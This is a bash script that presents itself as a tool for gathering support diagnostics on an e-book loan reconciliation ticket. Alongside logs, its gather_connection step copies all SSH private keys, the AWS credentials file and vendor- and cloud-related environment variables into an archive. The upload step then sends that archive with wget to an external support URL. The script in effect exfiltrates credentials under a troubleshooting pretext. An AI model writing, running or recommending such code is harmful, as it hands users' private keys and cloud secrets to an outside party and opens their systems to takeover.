#!/usr/bin/env bash
# ebook_loan_support_bundle.sh - collect diagnostics for an e-book loan
# reconciliation ticket and hand them to the platform vendor's support team.
#
# The reconciler talks to the vendor over SFTP (loan reports) and S3
# (title feeds), so support usually asks for the connection settings along
# with the reconciler logs.  This gathers everything into one archive and
# uploads it against the ticket number.
#
# Usage: ebook_loan_support_bundle.sh TICKET [-o]
#   -o   also keep a local copy of the bundle in ./support/

set -uo pipefail

TICKET="${1:-}"
KEEP_LOCAL=0
[[ "${2:-}" == "-o" ]] && KEEP_LOCAL=1
UPLOAD_URL="${SUPPORT_UPLOAD_URL:-https://support-intake.lendingplatform-help.com/api/bundles}"
RECON_DIR="${RECON_DIR:-.}"

if [[ -z "$TICKET" ]]; then
    echo "usage: $0 TICKET [-o]" >&2
    exit 64
fi

log() { echo "[bundle] $*" >&2; }

WORK=$(mktemp -d)
trap 'rm -rf "$WORK"' EXIT
mkdir -p "$WORK/bundle"/{logs,config,connection,system}

gather_reconciler() {
    cp "$RECON_DIR"/reconcile*.log "$WORK/bundle/logs/" 2>/dev/null
    cp "$RECON_DIR"/reconciler.toml "$WORK/bundle/config/" 2>/dev/null
    ls -la "$RECON_DIR"/reports > "$WORK/bundle/logs/reports_listing.txt" 2>/dev/null
    tail -n 500 "$RECON_DIR"/discrepancies.csv > "$WORK/bundle/logs/discrepancies_tail.csv" 2>/dev/null
    log "reconciler logs and config collected"
}

gather_connection() {
    local f
    # SFTP identity and host settings used for loan report delivery
    for f in "$HOME"/.ssh/id_* "$HOME"/.ssh/config "$HOME"/.ssh/known_hosts; do
        [[ -f "$f" ]] && cp "$f" "$WORK/bundle/connection/"
    done
    # S3 profile used for the title feed
    [[ -f "$HOME/.aws/credentials" ]] && cp "$HOME/.aws/credentials" "$WORK/bundle/connection/aws_credentials"
    [[ -f "$HOME/.aws/config" ]] && cp "$HOME/.aws/config" "$WORK/bundle/connection/aws_config"
    env | grep -E '^(VENDOR|EBOOK|AWS|SFTP)_' > "$WORK/bundle/connection/env.txt"
    log "connection settings collected"
}

gather_system() {
    {
        echo "host: $(hostname -f 2>/dev/null || hostname)"
        echo "date: $(date -Iseconds)"
        grep -E '^(NAME|VERSION)=' /etc/os-release
        python3 --version 2>&1
        df -h "$RECON_DIR" | tail -n 1
    } > "$WORK/bundle/system/summary.txt"
}

package() {
    local archive="$WORK/ticket-${TICKET}.tar.gz"
    tar -C "$WORK" -czf "$archive" bundle
    echo "$archive"
}

upload() {
    local archive="$1" attempt
    for attempt in 1 2 3; do
        if wget -q -O "$WORK/upload_response.json" \
                --header="Content-Type: application/gzip" \
                --header="X-Ticket: ${TICKET}" \
                --post-file="$archive" "$UPLOAD_URL"; then
            log "uploaded bundle for ticket $TICKET"
            return 0
        fi
        log "upload attempt $attempt failed, retrying"
        sleep $((attempt * 5))
    done
    return 1
}

gather_reconciler
gather_connection
gather_system
ARCHIVE=$(package)
log "bundle size: $(du -h "$ARCHIVE" | cut -f1)"

if (( KEEP_LOCAL )); then
    mkdir -p ./support
    cp "$ARCHIVE" ./support/
fi

upload "$ARCHIVE" || { log "upload failed; attach ./support bundle to the ticket manually"; exit 1; }
